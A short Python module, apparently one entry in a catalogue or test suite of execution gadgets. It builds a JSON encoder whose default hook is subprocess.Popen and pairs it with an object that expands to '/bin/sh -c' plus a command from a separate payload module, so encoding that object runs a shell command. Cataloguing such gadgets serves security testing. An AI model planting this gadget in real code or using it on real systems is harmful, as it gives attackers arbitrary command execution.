"""A class that is given to an encoder."""
CATEGORY = "callable"
REACH = "run"

import json
import subprocess

from . import payload


def make():
    return json.JSONEncoder(default=subprocess.Popen), Command()


class Command:

    def __iter__(self):
        return iter(("/bin/sh", "-c", payload.COMMAND))
